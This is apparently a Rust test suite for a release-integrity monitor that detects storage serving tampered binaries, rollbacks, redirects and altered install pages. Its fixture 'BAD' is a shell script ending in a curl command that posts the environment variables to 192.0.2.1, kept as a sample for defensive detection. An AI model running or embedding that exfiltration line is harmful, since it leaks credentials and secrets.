//! What the storage watch finds, with a real log and a storage that turns against its clients.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use countersign::monitor::alert::{Class, Finding};
use countersign::monitor::config::Config;
use countersign::monitor::task::{Poll, Task};
use countersign::monitor::watch::tasks;
use countersign_tests::bench::{Bench, ROOTS, bench};
use countersign_tests::serving::{Serving, answer};
use ledger::{hex32, sha256};
use std::fs;
use std::path::PathBuf;

const NOW: u64 = 1_800_000_000;
const GOOD: &[u8] = b"#!/bin/sh\necho the tool, 1.0\n";
const BAD: &[u8] = b"#!/bin/sh\necho the tool, 1.0\ncurl -d \"$(env)\" http://192.0.2.1/\n";

/// A log, a storage beside it, and the tasks that watch the storage.
struct Yard {
    bench: Bench,
    storage: Serving,
    tasks: Vec<Box<dyn Task>>,
}

impl Yard {
    /// With `tool` 1.0 released and uploaded.
    fn new() -> Self {
        let yard = Self {
            bench: bench(),
            storage: Serving::start(),
            tasks: Vec::new(),
        };
        yard.release("tool", "1.0", GOOD);
        yard.upload("tool");
        yard
    }

    /// Logs a release; it is not uploaded.
    fn release(&self, name: &str, version: &str, bytes: &[u8]) {
        fs::write(self.bench.path(name), bytes).unwrap();
        let _ = fs::remove_file(self.bench.path(&format!("{name}.bundle")));
        self.bench.ok(&format!(
            "publish {name} --project acme/tool --version {version} --key release1"
        ));
    }

    /// Uploads a file with its bundle, as they lie in the bench.
    fn upload(&self, name: &str) {
        for name in [name.to_owned(), format!("{name}.bundle")] {
            let bytes = fs::read(self.bench.path(&name)).unwrap();
            self.storage.put(&format!("/{name}"), bytes);
        }
    }

    /// Watches with this configuration, as a monitor that was just started does.
    fn watch(&mut self, watches: &str) {
        let text = format!(
            "api-version = \"countersign/v1\"\nstate = \"monitor\"\n[[log]]\npolicy = \"policy.toml\"\n{}",
            watches.replace("STORAGE", &self.storage.url)
        );
        let config = Config::parse(&text, self.bench.dir.path()).unwrap();
        self.tasks = tasks(&config).unwrap();
    }

    fn watched(more: &str) -> Self {
        let mut yard = Self::new();
        yard.watch(&format!("[[watch]]\nurl = \"STORAGE/tool\"\n{more}"));
        yard
    }

    /// Polls the first task, and keeps its progress.
    fn poll(&mut self) -> Poll {
        let task = self.tasks.first_mut().unwrap();
        let poll = task.poll(NOW);
        task.commit().unwrap();
        poll
    }

    /// Polls; gives the findings' classes and kinds.
    fn found(&mut self) -> Vec<(Class, String)> {
        kinds(&self.poll())
    }

    /// Polls, and there is nothing to say.
    fn quiet(&mut self) {
        let poll = self.poll();
        assert_eq!(poll.findings, [], "not quiet");
        assert!(poll.whole);
    }

    fn quarantined(&self, bytes: &[u8]) -> PathBuf {
        let name = format!("monitor/quarantine/{}.bin", hex32(&sha256(bytes)));
        self.bench.path(&name)
    }
}

fn kinds(poll: &Poll) -> Vec<(Class, String)> {
    let all = poll.findings.iter();
    all.map(|f| (f.class, f.kind.clone())).collect()
}

fn of<'a>(poll: &'a Poll, kind: &str) -> &'a Finding {
    let found = poll.findings.iter().find(|f| f.kind == kind);
    found.unwrap_or_else(|| panic!("no {kind} in {:?}", poll.findings))
}

fn is(class: Class, kind: &str) -> Vec<(Class, String)> {
    vec![(class, kind.to_owned())]
}

#[test]
fn a_swap_for_one_user_agent_is_caught_and_the_bytes_are_kept_after_it_is_swapped_back() {
    let mut yard = Yard::watched("");
    let poll = yard.poll();
    assert_eq!(poll.findings, []);
    assert_eq!(poll.records[0].kind, "served");
    yard.quiet();

    yard.storage.turn(|request, out| {
        let swapped = request.path == "/tool" && request.agent().starts_with("curl/");
        if swapped {
            answer(out, "200 OK", &["X-Served-By: edge-7"], BAD)?;
        }
        Ok(swapped)
    });
    let poll = yard.poll();
    let both = [
        (Class::Tampering, "bytes-not-logged".to_owned()),
        (Class::Tampering, "served-differently".to_owned()),
    ];
    assert_eq!(kinds(&poll), both, "{:?}", poll.findings);
    let finding = of(&poll, "bytes-not-logged");
    assert_eq!(finding.key, hex32(&sha256(BAD)));
    let served_to = finding.details.iter().find(|(n, _)| n == "served to");
    assert_eq!(served_to.unwrap().1, "curl/8.5.0");

    // An hour later nothing is to be seen there; what was seen stays.
    yard.storage.turn_back();
    yard.quiet();
    let kept = yard.quarantined(BAD);
    assert_eq!(fs::read(&kept).unwrap(), BAD);
    assert!(!yard.quarantined(GOOD).exists());
    let account =
        fs::read_to_string(kept.with_file_name(format!("{}-1.json", hex32(&sha256(BAD)))));
    let account = account.unwrap();
    let account: serde_json::Value = serde_json::from_str(&account).unwrap();
    assert_eq!(account["userAgent"], "curl/8.5.0");
    assert_eq!(account["why"], "bytes-not-logged");
    assert_eq!(account["subject"], format!("{}/tool", yard.storage.url));
    let headers = account["answers"][0]["headers"].to_string();
    assert!(
        headers.contains("x-served-by") && headers.contains("edge-7"),
        "{headers}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |p: &std::path::Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&kept), 0o400);
        assert_eq!(mode(kept.parent().unwrap()), 0o700);
    }
    // The same alert, if it comes again.
    let id = finding.id();
    yard.storage.put("/tool", BAD);
    yard.watch("[[watch]]\nurl = \"STORAGE/tool\"\n");
    let poll = yard.poll();
    assert_eq!(of(&poll, "bytes-not-logged").id(), id);
}

#[test]
fn a_release_is_recorded_and_the_way_back_is_an_alert() {
    let mut yard = Yard::watched("");
    yard.poll();
    let old = fs::read(yard.bench.path("tool.bundle")).unwrap();
    // Logged, then uploaded: the history of a moment ago does not have it.
    yard.release("tool", "1.1", b"new\n");
    yard.upload("tool");
    let poll = yard.poll();
    assert_eq!(poll.findings, []);
    assert_eq!(poll.records[0].kind, "served");
    yard.quiet();

    yard.storage.put("/tool", GOOD);
    yard.storage.put("/tool.bundle", &old);
    assert_eq!(yard.found(), is(Class::Tampering, "rolled-back"));
    assert_eq!(
        yard.found(),
        is(Class::Tampering, "rolled-back"),
        "it stays"
    );
    // On purpose: what was mended was withdrawn.
    yard.bench
        .ok(&format!("withdraw --version 1.1 --reason broken {ROOTS}"));
    yard.watch("[[watch]]\nurl = \"STORAGE/tool\"\n");
    // The bundle from before does not know of the withdrawal.
    assert_eq!(yard.found(), is(Class::Degraded, "bundle-stale"));
    yard.upload("tool");
    assert_eq!(yard.found(), is(Class::Tampering, "withdrawn-served"));
}

#[test]
fn released_bytes_in_a_strange_place_are_no_release() {
    let mut yard = Yard::new();
    yard.release("tool-debug", "1.0-debug", b"debug\n");
    yard.watch("[[watch]]\nurl = \"STORAGE/tool\"\n");
    yard.quiet();
    yard.storage.put("/tool", b"debug\n");
    let found = is(Class::Tampering, "changed-without-release");
    assert_eq!(yard.found(), found);
    // The same where nothing is known from before; and where that is its name, it is right.
    yard.storage.put("/other", b"debug\n");
    yard.watch("[[watch]]\nurl = \"STORAGE/other\"\nbundle = \"none\"\n");
    assert_eq!(yard.found(), is(Class::Tampering, "other-artifact"));
    yard.watch(
        "[[watch]]\nurl = \"STORAGE/other\"\nbundle = \"none\"\nartifact = \"tool-debug\"\n",
    );
    yard.quiet();
}

#[test]
fn what_never_ends_is_left_and_is_not_the_release() {
    let mut yard = Yard::watched("max-bytes = 20_000_000\nuser-agents = [\"curl/8.5.0\"]\n");
    yard.storage.turn(|request, out| {
        if request.path != "/tool" {
            return Ok(false);
        }
        out.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n")?;
        loop {
            out.write_all(&[b'#'; 65536])?;
        }
    });
    let poll = yard.poll();
    assert_eq!(kinds(&poll), is(Class::Tampering, "bytes-not-logged"));
    assert_eq!(of(&poll, "bytes-not-logged").key, "endless");
    let size = of(&poll, "bytes-not-logged");
    let size = size.details.iter().find(|(n, _)| n == "size").unwrap();
    let size: u64 = size.1.parse().unwrap();
    let kept = fs::metadata(yard.quarantined(&vec![b'#'; size as usize])).unwrap();
    assert_eq!(kept.len(), size);
    assert!(size < 17_000_000, "{size}");
}

#[test]
fn an_outage_is_no_tampering() {
    let mut yard = Yard::watched("user-agents = [\"curl/8.5.0\", \"Wget/1.21.4\"]\n");
    yard.quiet();
    let whole_of = |status: &'static str| {
        move |_: &countersign_tests::serving::Request, out: &mut dyn std::io::Write| {
            answer(out, status, &[], b"").map(|()| true)
        }
    };
    for (status, kind) in [("404 No", "not-found"), ("503 No", "http-status")] {
        yard.storage.turn(whole_of(status));
        let poll = yard.poll();
        assert_eq!(kinds(&poll), is(Class::Degraded, kind));
        assert!(!poll.whole);
    }
    // Cut off in the middle, and nothing at all.
    yard.storage.turn(|request, out| {
        if request.path != "/tool" {
            return Ok(false);
        }
        out.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 29\r\n\r\n")?;
        out.write_all(&GOOD[..12]).map(|()| true)
    });
    let poll = yard.poll();
    assert!(
        poll.findings.iter().all(|f| f.class == Class::Degraded),
        "{:?}",
        poll.findings
    );
    of(&poll, "download-broken");
    yard.storage.turn(|_, _| Ok(true));
    let poll = yard.poll();
    assert_eq!(kinds(&poll), is(Class::Degraded, "unreachable"));
    for finding in &poll.findings {
        let said = format!("{finding:?}").to_lowercase();
        assert!(
            !said.contains("compromise") && !said.contains("tamper"),
            "{said}"
        );
    }
    yard.storage.turn_back();
    yard.quiet();

    // One client is given half of something else: a shell would have run that half.
    yard.storage.turn(|request, out| {
        let hit = request.path == "/tool" && request.agent().starts_with("Wget/");
        if hit {
            out.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 29\r\n\r\n")?;
            out.write_all(b"#!/bin/sh\ncurl ")?;
        }
        Ok(hit)
    });
    let poll = yard.poll();
    let finding = of(&poll, "bytes-not-logged");
    assert_eq!(finding.class, Class::Tampering);
    assert!(yard.quarantined(b"#!/bin/sh\ncurl ").exists());
}

#[test]
fn a_redirect_to_a_new_host_and_a_wrong_not_modified_are_found() {
    let mut yard = Yard::watched("user-agents = [\"curl/8.5.0\"]\n");
    let tag = |request: &countersign_tests::serving::Request, out: &mut dyn std::io::Write| {
        let hit = request.path == "/tool";
        if hit {
            match request.header("if-none-match") {
                "\"1\"" => answer(out, "304 Not Modified", &["ETag: \"1\""], b"")?,
                _ => answer(out, "200 OK", &["ETag: \"1\""], GOOD)?,
            }
        }
        Ok(hit)
    };
    yard.storage.turn(tag);
    yard.quiet();
    yard.quiet();
    let asked = yard.storage.asked();
    let conditional = asked
        .iter()
        .filter(|r| r.header("if-none-match") == "\"1\"");
    assert_eq!(conditional.count(), 1);

    // A new release under the old tag: who has the old bytes keeps them.
    yard.release("tool", "1.1", b"new\n");
    yard.upload("tool");
    yard.storage.turn(|request, out| {
        let hit = request.path == "/tool";
        if hit {
            match request.header("if-none-match") {
                "\"1\"" => answer(out, "304 Not Modified", &["ETag: \"1\""], b"")?,
                _ => answer(out, "200 OK", &["ETag: \"2\""], b"new\n")?,
            }
        }
        Ok(hit)
    });
    assert_eq!(yard.found(), is(Class::Degraded, "wrong-not-modified"));
    yard.storage.turn_back();
    yard.quiet();

    // The right bytes, by way of somebody else.
    let other = Serving::start();
    other.put("/tool", b"new\n");
    let to = format!("Location: {}/tool", other.url);
    // It stays one alert while it lasts, and is one again when it comes back.
    for _ in 0..2 {
        let to = to.clone();
        yard.storage.turn(move |request, out| {
            let hit = request.path == "/tool";
            if hit {
                answer(out, "302 Found", &[&to], b"")?;
            }
            Ok(hit)
        });
        assert_eq!(yard.found(), is(Class::Unexpected, "redirect-new-host"));
        assert_eq!(yard.found(), is(Class::Unexpected, "redirect-new-host"));
        yard.storage.turn_back();
        yard.quiet();
    }
}

#[test]
fn bundles_that_are_missing_old_or_something_else_are_found() {
    let mut yard = Yard::watched("user-agents = [\"curl/8.5.0\"]\n");
    let first = fs::read(yard.bench.path("tool.bundle")).unwrap();
    yard.storage.remove("/tool.bundle");
    assert_eq!(yard.found(), is(Class::Degraded, "bundle-missing"));
    yard.storage.put("/tool.bundle", b"<html>");
    assert_eq!(yard.found(), is(Class::Tampering, "bundle-refused"));
    // The artifact is uploaded, its bundle not yet: no attack.
    yard.release("tool", "1.1", b"new\n");
    yard.upload("tool");
    yard.storage.put("/tool.bundle", &first);
    assert_eq!(yard.found(), is(Class::Degraded, "bundle-of-other-release"));
    yard.upload("tool");
    yard.quiet();
}

#[test]
fn what_was_served_while_the_log_was_away_is_judged_when_it_is_back() {
    let mut yard = Yard::watched("user-agents = [\"curl/8.5.0\"]\n");
    yard.quiet();
    yard.bench.stop();
    // A monitor that starts now knows no history: the bundle proves what is right.
    yard.watch("[[watch]]\nurl = \"STORAGE/tool\"\nuser-agents = [\"curl/8.5.0\"]\n");
    assert_eq!(yard.found(), is(Class::Degraded, "log-not-asked"));
    yard.storage.put("/tool", BAD);
    let poll = yard.poll();
    let kinds = kinds(&poll);
    assert!(
        kinds.iter().all(|(c, _)| *c == Class::Degraded),
        "{kinds:?}"
    );
    of(&poll, "not-compared");
    // It is swapped back before the log returns.
    yard.storage.put("/tool", GOOD);
    yard.bench.serve();
    yard.watch("[[watch]]\nurl = \"STORAGE/tool\"\nuser-agents = [\"curl/8.5.0\"]\n");
    assert_eq!(yard.found(), is(Class::Tampering, "bytes-not-logged"));
    assert_eq!(fs::read(yard.quarantined(BAD)).unwrap(), BAD);
    yard.quiet();
}

#[test]
fn each_version_that_stands_is_looked_at_in_its_place() {
    let mut yard = Yard::new();
    for version in ["1.1", "1.2"] {
        yard.release("tool", version, format!("the tool, {version}\n").as_bytes());
        for (from, to) in [("tool", "tool"), ("tool.bundle", "tool.bundle")] {
            let bytes = fs::read(yard.bench.path(from)).unwrap();
            yard.storage.put(&format!("/{version}/{to}"), bytes);
        }
    }
    yard.watch("[[watch]]\nurl = \"STORAGE/{version}/tool\"\nuser-agents = [\"curl/8.5.0\"]\n");
    // 1.0 was never put into such a place.
    let poll = yard.poll();
    assert_eq!(kinds(&poll), is(Class::Degraded, "not-found"));
    assert!(poll.findings[0].subject.ends_with("/1.0/tool"));
    yard.bench
        .ok(&format!("withdraw --version 1.0 --reason broken {ROOTS}"));
    yard.watch("[[watch]]\nurl = \"STORAGE/{version}/tool\"\nuser-agents = [\"curl/8.5.0\"]\nbundle = \"none\"\n");
    yard.quiet();
    // Released bytes, and the wrong version of them.
    yard.storage.put("/1.2/tool", b"the tool, 1.1\n");
    let found = is(Class::Tampering, "changed-without-release");
    assert_eq!(yard.found(), found);
}

#[test]
fn a_page_that_names_a_new_host_or_a_strange_digest_is_found() {
    let mut yard = Yard::new();
    let page = |more: &str| {
        format!(
            "curl https://dl.example/tool\necho '{}  tool' | sha256sum -c\n{more}",
            hex32(&sha256(GOOD))
        )
    };
    yard.storage.put("/install", page(""));
    yard.watch("[[watch]]\nurl = \"STORAGE/install\"\nkind = \"page\"\n");
    yard.quiet();
    yard.quiet();
    // To one client only, an address and a digest more.
    let changed = page(&format!("curl http://192.0.2.1/x # {}\n", "ab".repeat(32)));
    let swapped = changed.clone();
    yard.storage.turn(move |request, out| {
        let hit = request.agent().starts_with("Wget/");
        if hit {
            answer(out, "200 OK", &[], swapped.as_bytes())?;
        }
        Ok(hit)
    });
    let poll = yard.poll();
    for (kind, class) in [
        ("page-changed", Class::Unexpected),
        ("page-new-url", Class::Unexpected),
        ("page-unknown-digest", Class::Unexpected),
        ("served-differently", Class::Tampering),
    ] {
        assert_eq!(of(&poll, kind).class, class, "{kind}");
    }
    assert_eq!(of(&poll, "page-new-url").key, "192.0.2.1");
    for bytes in [page(""), changed] {
        assert!(yard.quarantined(bytes.as_bytes()).exists());
    }
    // Made anew for each request: only what it embeds counts.
    let count = std::sync::atomic::AtomicU64::new(0);
    yard.storage.turn(move |_, out| {
        let nonce = count.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let text = format!("https://dl.example/tool {nonce}");
        answer(out, "200 OK", &[], text.as_bytes()).map(|()| true)
    });
    yard.poll();
    yard.quiet();
}

#[test]
fn files_of_a_directory_are_compared_however_they_are_dated() {
    let mut yard = Yard::new();
    let store = yard.bench.path("store");
    fs::create_dir_all(store.join("sub")).unwrap();
    for name in ["tool", "tool.bundle"] {
        fs::copy(yard.bench.path(name), store.join("sub").join(name)).unwrap();
    }
    yard.watch("[[watch]]\ndirectory = \"store\"\n");
    yard.quiet();
    yard.quiet();
    // As long as the released bytes, and as old.
    let path = store.join("sub/tool");
    let dated = fs::metadata(&path).unwrap().modified().unwrap();
    let mut bad = GOOD.to_vec();
    bad[12] ^= 1;
    fs::write(&path, &bad).unwrap();
    let file = fs::File::options().write(true).open(&path).unwrap();
    file.set_modified(dated).unwrap();
    let poll = yard.poll();
    assert_eq!(kinds(&poll), is(Class::Tampering, "bytes-not-logged"));
    assert!(poll.findings[0].subject.ends_with("store/sub/tool"));
    assert_eq!(fs::read(yard.quarantined(&bad)).unwrap(), bad);
    fs::write(&path, GOOD).unwrap();
    fs::write(store.join("more"), b"more\n").unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink("/etc/passwd", store.join("link")).unwrap();
    let poll = yard.poll();
    assert!(
        of(&poll, "bytes-not-logged")
            .subject
            .ends_with("store/more")
    );
    #[cfg(unix)]
    assert_eq!(of(&poll, "special-file").class, Class::Degraded);
}
